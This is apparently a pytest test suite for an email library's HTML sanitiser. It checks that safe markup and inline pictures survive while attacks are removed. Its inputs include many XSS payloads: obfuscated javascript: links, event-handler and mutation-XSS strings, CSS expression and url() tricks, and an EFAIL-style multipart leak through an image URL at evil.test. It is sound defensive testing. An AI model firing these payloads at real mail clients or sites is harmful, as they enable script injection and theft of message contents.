"""HTML that is safe to show: attacks, pictures, and what stays."""

from __future__ import annotations

import base64
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from msgcore import Attachment, Message, SafeHtml, mime, safe_html
from msgcore.errors import NotLoaded
from msgcore.model.style_rules import safe_style

PNG = b"\x89PNG\r\n\x1a\n----"
PNG_ADDRESS = "data:image/png;base64," + base64.b64encode(PNG).decode()


def cleaned(html: str) -> str:
    return safe_html(Message(html=html)).html


@pytest.mark.parametrize(
    "html",
    [
        '<p>A <b>bold</b> <i>word</i>, <font color="red" face="Arial">a <u>red</u> one</font><br>end</p>',
        '<h1>Title</h1><hr><ol start="3"><li>x</li></ol><pre>a  b</pre>',
        '<table border="1" width="100%"><tbody><tr><td colspan="2" bgcolor="#ffffff">x</td></tr></tbody></table>',
        '<p style="color: #333; font-family: Arial, sans-serif; margin: 0 auto">x</p>',
        '<blockquote type="cite">x</blockquote>',
    ],
)
def test_what_is_harmless_stays(html: str) -> None:
    assert cleaned(html) == html


@pytest.mark.parametrize("address", ["http://x.test/", "https://x.test/?a=1&amp;b=2", "mailto:b@x.test?subject=x"])
def test_a_link_tells_nothing_about_who_follows_it(address: str) -> None:
    assert cleaned(f'<a href="{address}">x</a>') == f'<a href="{address}" rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    "address",
    [
        *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "jav&#x09;ascript:alert(1)", "java\tscript:alert(1)"),
        *(" &#14;  javascript:alert(1)", "&#106;avascript:alert(1)", "java&Tab;script&colon;alert(1)", "vbscript:x"),
        *("data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "//evil.test/x", "x.html", "#x", "cid:a@b"),
        *("blob:https://x.test/1", "feed:javascript:alert(1)", "view-source:https://x.test", "ht\ntp://x.test"),
    ],
)
def test_other_links_lead_nowhere(address: str) -> None:
    assert cleaned(f'<a href="{address}">x</a>') == '<a rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    ("attack", "left"),
    [
        ("<script>alert(1)</script>y", "y"),
        ("<SCRIPT SRC=http://evil.test/x.js></SCRIPT>y", "y"),
        ("<scr<script>ipt>alert(1)</script>y", "ipt&gt;alert(1)y"),
        ("<img src=x onerror=alert(1)>", "<img>"),
        ("<img/src=x/onerror=alert(1)//>", "<img>"),
        ("<img src=`javascript:alert(1)`>", "<img>"),
        ('<img """><script>alert(1)</script>">', '<img>"&gt;'),
        ("<IMG SRC=&#106;&#97;&#118;&#97;script:alert(1)>", "<img>"),
        ("<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img>"),
        ("<img src='data:text/html,<script>alert(1)</script>'>", "<img>"),
        ("<body onload=alert(1)>y", "<div>y</div>"),
        ("<b <script>alert(1)</script>y", "<b>alert(1)y</b>"),
        ("<x onclick=alert(1)>y</x>", "y"),
        ("<details open ontoggle=alert(1)>y</details>", "<details>y</details>"),
        ("<div id=a class=b name=c tabindex=1 contenteditable autofocus onfocus=alert(1)>y</div>", "<div>y</div>"),
        ("<marquee onstart=alert(1)>y</marquee>", "y"),
        ("<video src=x onerror=alert(1)>n</video><audio src=x onerror=alert(1)></audio>y", "y"),
        ("<iframe src='javascript:alert(1)'></iframe>y", "y"),
        ("<iframe srcdoc='<script>alert(1)</script>'>n</iframe>y", "y"),
        ("<object data='javascript:alert(1)'>y</object>", "y"),
        ("<embed src=http://evil.test/x.swf><applet code=x>y</applet>", "y"),
        ("<meta http-equiv=refresh content='0;url=http://evil.test/'>y", "y"),
        ("<base href='http://evil.test/'>y", "y"),
        ("<link rel=stylesheet href=http://evil.test/x.css>y", "y"),
        ("<style>@import 'http://evil.test/x.css'; p { background: url(http://evil.test/) }</style>y", "y"),
        ("<form action=http://evil.test/><input name=password><button formaction=x>y</button></form>", "y"),
        ("<isindex action='javascript:alert(1)'>y", "y"),
        ("<map name=m><area href='javascript:alert(1)'></map>y", "y"),
        ("<table background='javascript:alert(1)'><td>y", "<table><tbody><tr><td>y</td></tr></tbody></table>"),
        ("<!--><img src=x onerror=alert(1)>-->y", "<img>--&gt;y"),
        ("<!-- --!><img src=x onerror=alert(1)>-->y", "<img>--&gt;y"),
        ("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->y", "y"),
        ("<![CDATA[<script>alert(1)</script>]]>y", "alert(1)]]&gt;y"),
        ("<?xml version='1.0'?>y", "y"),
        ("<p title='<img src=x onerror=alert(1)>'>y", '<p title="&lt;img src=x onerror=alert(1)&gt;">y</p>'),
    ],
)
def test_an_attack_is_left_out(attack: str, left: str) -> None:
    assert cleaned(attack) == left


@pytest.mark.parametrize(
    ("attack", "left"),
    [
        ("<svg onload=alert(1)>n</svg>y", "y"),
        ("<svg><script>alert(1)</script></svg>y", "y"),
        ("<svg><a xlink:href='javascript:alert(1)'><text>n</text></a></svg>y", "y"),
        ("<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", ""),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>y", "y"),
        ("<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>y", "y"),
        ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""),
        (
            "<noscript><p title='</noscript><img src=x onerror=1>'>",
            '<p title="&lt;/noscript&gt;&lt;img src=x onerror=1&gt;"></p>',
        ),
        ("<template><img src=x onerror=alert(1)></template>y", "y"),
        ("<textarea><img src=x onerror=alert(1)></textarea>", "<img>"),
        ("<xmp><img src=x onerror=alert(1)></xmp>", "<img>"),
        ("<title><img src=x onerror=alert(1)></title>y", "y"),
        ("<noembed><img src=x onerror=alert(1)></noembed>y", "y"),
        ("<plaintext><b>y", "<b>y</b>"),
        ("<select><style></select><img src=x onerror=alert(1)></style>y", "y"),
    ],
)
def test_markup_that_changes_its_meaning_when_read_again_is_left_out(attack: str, left: str) -> None:
    assert cleaned(attack) == left


@pytest.mark.parametrize(
    ("style", "safe"),
    [
        ("color: red; position: fixed; top: 0", "color: red"),
        ("background: url(http://evil.test/a.png)", ""),
        (r"background-image: \75rl(http://evil.test/a.png)", ""),
        ("background: #fff no-repeat", "background: #fff no-repeat"),
        ("width: expression(alert(1))", ""),
        ("width: exp/**/ression(alert(1))", ""),
        ("-moz-binding: url(x); behavior: url(x)", ""),
        ("margin-top: -1000px; margin: 0 5px", "margin: 0 5px"),
        ("color: red}</style><script>", ""),
        ("font-family: 'a;position:fixed;b'", ""),
        ("font-family: 'Segoe UI', \"ＭＳ ゴシック\", serif", "font-family: 'Segoe UI', \"ＭＳ ゴシック\", serif"),
        ("color: rgb(1, 2, 3); color: var(--x); width: calc(1px + 1px)", "color: rgb(1, 2, 3)"),
        ("COLOR : RED !important", "color: RED !important"),
        ("@import 'x'; font-size: 12px", "font-size: 12px"),
        ("", ""),
    ],
)
def test_only_known_declarations_stay(style: str, safe: str) -> None:
    assert safe_style(style) == safe


# Pictures


def picture(content_type: str = "image/png", data: bytes = PNG, content_id: str = "a@b") -> Attachment:
    return Attachment(data, content_id=content_id, content_type=content_type, is_inline=True)


@pytest.mark.parametrize("address", ["cid:a@b", "CID:a%40b", "cid:a&#64;b"])
def test_a_picture_of_the_message_stands_in_the_html(address: str) -> None:
    message = Message(html=f'<img src="{address}" alt="A">', attachments=[picture()])
    assert safe_html(message) == SafeHtml(f'<img src="{PNG_ADDRESS}" alt="A">')


def test_no_picture_stands_there_when_none_is_wanted() -> None:
    message = Message(html=f'<img src="cid:a@b"><img src="{PNG_ADDRESS}">', attachments=[picture()])
    assert safe_html(message, pictures="none") == SafeHtml("<img><img>")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\xff\xd8\xff\xe0", "jpeg"),
        (b"GIF89a..", "gif"),
        (b"RIFF....WEBPVP8 ", "webp"),
        (b"BM......", "bmp"),
    ],
)
def test_the_type_of_a_picture_is_told_by_its_octets(data: bytes, kind: str) -> None:
    message = Message(html='<img src="cid:a@b">', attachments=[picture("application/octet-stream", data)])
    assert safe_html(message).html.startswith(f'<img src="data:image/{kind};base64,')


@pytest.mark.parametrize("data", [b"<svg xmlns='http://www.w3.org/2000/svg'/>", b"<html>", b"", b"%PDF-1.4"])
def test_what_is_no_picture_is_not_shown_as_one(data: bytes) -> None:
    message = Message(html='<img src="cid:a@b">', attachments=[picture("image/png", data)])
    assert safe_html(message).html == "<img>"


def test_pictures_past_the_limit_are_left_out() -> None:
    message = Message(html='<img src="cid:a@b">' * 3, attachments=[picture()])
    assert safe_html(message, max_picture_octets=2 * len(PNG)).html == f'<img src="{PNG_ADDRESS}">' * 2 + "<img>"


def test_a_picture_that_was_not_read_is_named(tmp_path: Path) -> None:
    file = tmp_path / "a.png"
    file.write_bytes(PNG)
    message = Message(html='<img src="cid:a">', attachments=[Attachment(file, content_id="a")])
    with pytest.raises(NotLoaded, match=r"a\.png"):
        safe_html(message)


@pytest.mark.parametrize(
    "html",
    [
        '<img src="http://evil.test/x.png">',
        '<img src=" HTTPS://evil.test/x.png">',
        '<img src="//evil.test/x.png">',
        '<table background="http://evil.test/x.png"></table>',
        "<p style=\"background: url( 'https://evil.test/x.png')\"></p>",
    ],
)
def test_a_picture_from_elsewhere_is_left_out_and_counted(html: str) -> None:
    shown = safe_html(Message(html=html))
    assert ("evil.test" in shown.html, shown.blocked_pictures) == (False, 1)


def test_pictures_from_elsewhere_stay_on_wish() -> None:
    message = Message(html='<img src="http://x.test/a.png"><img src="//x.test/b.png">')
    assert safe_html(message, remote_pictures=True) == SafeHtml(
        '<img src="http://x.test/a.png"><img src="https://x.test/b.png">'
    )


@pytest.mark.parametrize(
    "attribute", ["srcset='http://evil.test/x 1x'", "lowsrc=http://evil.test/x", "dynsrc=http://evil.test/x"]
)
def test_other_ways_to_name_a_picture_are_left_out(attribute: str) -> None:
    assert cleaned(f"<img alt=y {attribute}>") == '<img alt="y">'


# Messages


def test_a_text_message_gives_its_text() -> None:
    assert safe_html(Message(text="<b>\n> q")).html == '<p>&lt;b&gt;</p><blockquote type="cite"><p>q</p></blockquote>'


def test_a_message_without_body_gives_nothing() -> None:
    assert safe_html(Message(subject="x")) == SafeHtml("")


def test_parts_are_never_joined() -> None:
    """EFAIL: an open quote of one part must not draw the text of the next into an address."""
    parts = [
        b'Content-Type: text/html\r\n\r\n<p>x</p><img src="http://evil.test/?',
        b"Content-Type: text/plain\r\n\r\nthe secret",
        b'Content-Type: text/html\r\n\r\n">',
    ]
    octets = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" + b"\r\n--b\r\n".join(parts) + b"\r\n--b--\r\n"
    assert safe_html(mime.read(octets), remote_pictures=True).html == "<p>x</p>"


def test_without_nh3_the_extra_is_named() -> None:
    script = (
        "import sys; sys.modules['nh3'] = None\n"
        "import msgcore\n"
        "try: msgcore.safe_html(msgcore.Message(html='x'))\n"
        "except ImportError as error: print(type(error).__name__, error)"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)

    assert done.stdout == "MissingExtra msgcore.safe_html needs an extra: pip install 'msgcore[html]'\n"


def test_a_text_message_needs_no_nh3() -> None:
    script = (
        "import sys; sys.modules['nh3'] = None\n"
        "import msgcore\n"
        "print(msgcore.safe_html(msgcore.Message(text='x')).html)"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)

    assert done.stdout == "<p>x</p>\n"


# Each of these takes nh3 alone a time that grows with the square of the length, or grows itself.
@pytest.mark.parametrize(
    "html",
    [
        "<ul><li>" * 50_000,
        "<b>" * 100_000 + "</i>" * 100_000,
        "<p><div>" * 100_000,
        "<p " + "".join(f"a{n}=1 " for n in range(100_000)) + ">",
        "<p>" + "".join(f"<font size={n}>" for n in range(40)) + "<div>x</div>" * 50_000,
    ],
    ids=["lists", "end tags", "paragraphs", "attributes", "formatting"],
)
def test_much_of_one_piece_ends_and_does_not_multiply(html: str) -> None:
    assert len(cleaned(html)) < 2 * len(html)


class _Checker(HTMLParser):
    """Reads the result as another program might, and notes what must not be there."""

    tags = re.compile(r"script|style|iframe|object|embed|form|input|button|meta|link|base|svg|math|template|title")

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.tags.fullmatch(tag):
            self.wrong.append(tag)
        for name, value in attrs:
            self.check(name, value or "")

    def check(self, name: str, value: str) -> None:
        is_wrong = name.startswith("on") or name in {"id", "class", "name", "srcdoc", "srcset", "background", "action"}
        if name == "href":
            is_wrong = re.match(r"https?:|mailto:", value.strip(), re.IGNORECASE) is None
        elif name == "src":
            is_wrong = re.match(r"data:image/(png|jpeg|gif|webp|bmp);base64,", value) is None
        elif name == "style":
            is_wrong = re.search(r"url|expression|position|[\\@<]", value, re.IGNORECASE) is not None
        if is_wrong:
            self.wrong.append((name, value))

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)


_PIECES = [
    *(
        "<",
        ">",
        "</",
        "/",
        "<!",
        "<!--",
        "-->",
        "<![CDATA[",
        "<?",
        '"',
        "'",
        "=",
        " ",
        "&lt;",
        "&#60;",
        "\0",
        "\n",
        "x",
    ),
    *("<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<title>"),
    *("<table>", "<td>", "</table>", "<p>", "</p>", "<a href='", "javascript:alert(1)", "https://x.test/", "cid:a@b"),
    *("<img src='", "<img src=x onerror=", "alert(1)", " onload=", " style='", "background:url(http://x)", "color:red"),
    *(
        "<form>",
        "<noscript>",
        "</noscript>",
        "<textarea>",
        "<select>",
        "<template>",
        "<iframe srcdoc='",
        "<body ",
        "<b>",
    ),
]


@given(st.lists(st.sampled_from(_PIECES) | st.text(max_size=3), max_size=40).map("".join))
def test_nothing_forbidden_is_left_of_any_input(html: str) -> None:
    checker = _Checker()
    checker.feed(safe_html(Message(html=html, attachments=[picture()])).html)
    checker.close()
    assert checker.wrong == []


@given(st.lists(st.sampled_from(_PIECES) | st.text(max_size=3), max_size=40).map("".join))
def test_what_is_safe_is_left_alone_when_it_is_cleaned_again(html: str) -> None:
    once = cleaned(html)
    assert cleaned(once) == once


def test_blanks_in_a_style_take_no_time() -> None:
    """Quadratic, this would take a minute."""
    message = Message(html='<p style="background:url(' + " " * 100_000 + 'x)">Hi')

    assert "url" not in safe_html(message).html
